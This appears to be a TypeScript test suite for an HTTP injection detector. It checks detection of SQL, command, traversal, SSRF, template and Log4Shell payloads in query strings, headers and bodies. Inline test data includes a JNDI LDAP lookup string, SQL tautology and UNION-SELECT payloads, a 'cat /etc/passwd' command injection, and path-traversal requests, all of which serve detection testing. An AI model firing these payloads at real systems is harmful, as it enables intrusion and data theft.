// INJECTION on real HTTP/1.1 exchanges: every payload of the attack fixtures is
// found in the field it was sent in; the benign corpus is covered in
// benign-traffic.test.ts.
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { createContentDetectors, InjectionDetector } from '../../../../agent/detect/content/index.js';
import { ObservationFactory } from './http-observations.js';

const fixture = (name: string): string[] =>
  readFileSync(new URL(`../../../fixtures/attacks/${name}`, import.meta.url), 'latin1')
    .split('\n').map((l) => l.replace(/\r$/, '')).filter((l) => l !== '' && !l.startsWith('#'));

/** A payload as a client puts it in a query value: bytes a request line cannot hold are escaped. */
const asQueryValue = (payload: string): string =>
  payload.replace(/[\s#&+"<>\\^`{|}]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`);

const factory = new ObservationFactory();

describe('InjectionDetector', () => {
  const detector = new InjectionDetector();
  const familiesFor = (target: string, extra: { headers?: Record<string, string>; body?: string; method?: string } = {}): string[] =>
    (detector.observe(factory.observe({ target, ...extra }, { status: 200 })) ?? []).map((f) => f.subject);

  for (const [file, family, param] of [
    ['sqli.txt', 'sqli', 'id'], ['command.txt', 'command', 'host'], ['traversal.txt', 'path-traversal', 'file'],
    ['ssrf.txt', 'ssrf', 'url'], ['template.txt', 'template', 'name'], ['log4shell.txt', 'log4shell', 'q'],
  ] as const) {
    it(`finds every ${family} payload of ${file} sent in a query parameter`, () => {
      const missed = fixture(file).filter((payload) => !familiesFor(`/api/v1/items?${param}=${asQueryValue(payload)}`).includes(family));
      expect(missed).toEqual([]);
    });
  }

  it('finds Log4Shell payloads in header values, including obfuscated ones', () => {
    const missed = fixture('log4shell.txt').filter((payload) =>
      !familiesFor('/', { headers: { 'User-Agent': payload, 'X-Api-Version': payload } }).includes('log4shell'));
    expect(missed).toEqual([]);
  });

  it('finds traversal in the raw path (curl --path-as-is) and percent-encoded twice', () => {
    expect(familiesFor('/static/../../../../etc/passwd')).toContain('path-traversal');
    expect(familiesFor('/static/%252e%252e/%252e%252e/etc/passwd')).toContain('path-traversal');
    expect(familiesFor('/static/..%2f..%2fapp.env')).toContain('path-traversal');
  });

  it('finds payloads in JSON (escaped) and form bodies, and says how they were decoded', () => {
    const json = detector.observe(factory.observe({
      method: 'POST', target: '/api/v1/login', headers: { 'Content-Type': 'application/json' },
      body: '{"user":"admin\\u0027 or \\u00271\\u0027=\\u00271","password":"x"}',
    }, { status: 401 }));
    expect(json).toHaveLength(1);
    expect(json![0]!.details).toMatchObject({ field: 'body', decoding: 'json-unescaped', rule: 'sqli-quote-tautology', responseStatus: '401' });
    const form = detector.observe(factory.observe({
      method: 'POST', target: '/ping', headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      body: 'host=127.0.0.1%3B+cat+%2Fetc%2Fpasswd',
    }, { status: 200 }));
    expect(form?.map((f) => [f.subject, f.details['decoding']])).toEqual([['command', 'percent-decoded']]);
  });

  it('reports one finding per family with the rule, field and a short redacted excerpt', () => {
    const findings = detector.observe(factory.observe({
      target: `/api/v1/items?id=${asQueryValue("1' UNION SELECT NULL,password FROM users-- ")}&token=abcdefghijklmnopqrstuvwxyz0123456789`,
      headers: { 'User-Agent': '${jndi:ldap://198.18.0.99/aVeryLongCallbackTokenThatLooksSecret12345}' },
    }, { status: 200 }))!;
    expect(findings.map((f) => f.subject).sort()).toEqual(['log4shell', 'sqli']);
    const log4 = findings.find((f) => f.subject === 'log4shell')!;
    expect(log4).toMatchObject({ kind: 'INJECTION', severity: 'CRITICAL', mitreTechnique: 'T1190', endpoint: 'GET /api/v1/items' });
    expect(log4.details['field']).toBe('header:user-agent');
    expect(log4.details['excerpt']!.length).toBeLessThanOrEqual(80);
    expect(log4.details['excerpt']).not.toContain('aVeryLongCallbackTokenThatLooksSecret12345');
    const sqli = findings.find((f) => f.subject === 'sqli')!;
    expect(sqli.details['matchedRules']).toContain('sqli-union-select@query');
    expect(sqli.summary).toMatch(/^SQL injection payload in the query of GET \/api\/v1\/items/);
  });

  it('skips disabled families and rules, and a disabled detector is not created', () => {
    const noSqli = new InjectionDetector({ families: ['command'] });
    expect(noSqli.observe(factory.observe({ target: "/x?id=1'%20or%20'1'='1" }, { status: 200 }))).toBeUndefined();
    const noJndiRule = new InjectionDetector({ disabledRules: ['log4shell-jndi'] });
    expect(noJndiRule.observe(factory.observe({ target: '/', headers: { 'User-Agent': '${jndi:ldap://x/a}' } }, { status: 200 }))).toBeUndefined();
    expect(createContentDetectors({ injection: { enabled: false } }).map((d) => d.name)).toEqual(['sensitive-data', 'jwt-weakness']);
  });

  it('matches hostile, oversized input in linear time and counts the cut', () => {
    const bounded = new InjectionDetector({ maxFieldBytes: 1024, maxBodyBytes: 65_536 });
    const unit = ['${'.repeat(8), "'".repeat(8), '{{'.repeat(8), '../'.repeat(8)].join('');
    const obs = factory.observe({
      method: 'POST', target: `/x?q=${asQueryValue(unit.repeat(40))}`, headers: { 'X-Long': unit.repeat(40) }, body: unit.repeat(1_200),
    }, { status: 200 });
    expect(obs.exchange.request.body!.length).toBeGreaterThan(60_000);
    const start = process.hrtime.bigint();
    const findings = bounded.observe(obs);
    const ms = Number(process.hrtime.bigint() - start) / 1e6;
    expect(findings?.length).toBeGreaterThan(0);
    expect(bounded.counters.truncatedFields).toBeGreaterThanOrEqual(2);
    expect(ms).toBeLessThan(2_000);
  });
});
